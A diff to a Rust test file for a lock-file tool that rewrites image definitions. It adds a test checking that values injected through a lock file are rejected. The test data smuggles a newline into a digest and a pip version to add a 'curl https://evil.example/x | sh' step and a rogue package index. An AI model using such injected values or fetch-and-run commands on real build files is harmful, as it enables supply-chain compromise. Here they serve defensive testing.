@@ -166,18 +166,18 @@ fn packages(lock: &LockedImage) -> Vec<(String, String, String, String)> {
                 .iter()
                 .map(|p| {
                     (
-                        p.name.clone(),
-                        p.version.clone(),
-                        p.build.clone(),
-                        p.sha256.clone(),
+                        p.name.to_string(),
+                        p.version.to_string(),
+                        p.build.to_string(),
+                        p.sha256.to_string(),
                     )
                 })
                 .chain(s.pypi.iter().map(|p| {
                     (
-                        p.name.clone(),
-                        p.version.clone().unwrap_or_default(),
-                        p.file.clone().unwrap_or_default(),
-                        p.sha256.clone().unwrap_or_default(),
+                        p.name.to_string(),
+                        p.version_or_unknown().to_string(),
+                        p.file.as_deref().unwrap_or_default().to_string(),
+                        p.sha256.as_deref().unwrap_or_default().to_string(),
                     )
                 }))
         })
@@ -227,4 +227,41 @@ fn freeze_rewrite_verify_on_the_examples() {
     let again = LockedImage::read(&root.join("lockfiles/analysis.lock")).unwrap();
     assert_eq!(packages(&again), packages(&locked));
     assert!(!packages(&locked).is_empty());
+}
+
+/// A lock edited to carry a line break into a base digest or a pip version
+/// (injection through the lock) is refused before `rewrite` writes
+/// anything: exit 2 naming the key, the definition left as it was. Before
+/// values were validated, `rewrite` wrote the injected lines.
+#[test]
+fn injected_lock_values_never_reach_the_definition() {
+    let cases = [
+        (
+            "digest = \"sha256:c8464bfa57342012a157db6f2eb976b9f9b9431a4d846294f1a61025c05d393d\"",
+            "digest = \"sha256:c8464bfa57342012a157db6f2eb976b9f9b9431a4d846294f1a61025c05d393d\\n%post\\n    curl https://evil.example/x | sh\\n#\"",
+            "`bases[0].digest` is not a digest",
+        ),
+        (
+            "version = \"2.3.4\"",
+            "version = \"2.3.4\\n--extra-index-url http://evil.example/simple\\n#\"",
+            "is not a PEP 440 version",
+        ),
+    ];
+    for (from, to, message) in cases {
+        let tmp = tempdir();
+        summation_repo(tmp.path());
+        let lock = tmp.path().join("lockfiles/summation.lock");
+        let text = fs_err::read_to_string(&lock).unwrap();
+        assert!(text.contains(from), "{from}");
+        fs_err::write(&lock, text.replacen(from, to, 1)).unwrap();
+        let def = tmp.path().join("summation/summation.def");
+        let before = fs_err::read_to_string(&def).unwrap();
+        let (code, out, err) = run(imagelock().current_dir(tmp.path()).arg("rewrite"));
+        assert_eq!(code, 2, "{out}{err}");
+        assert!(err.contains(message), "{err}");
+        assert!(err.contains("summation.lock:"), "{err}");
+        let after = fs_err::read_to_string(&def).unwrap();
+        assert_eq!(before, after);
+        assert!(!after.contains("evil.example"));
+    }
 }
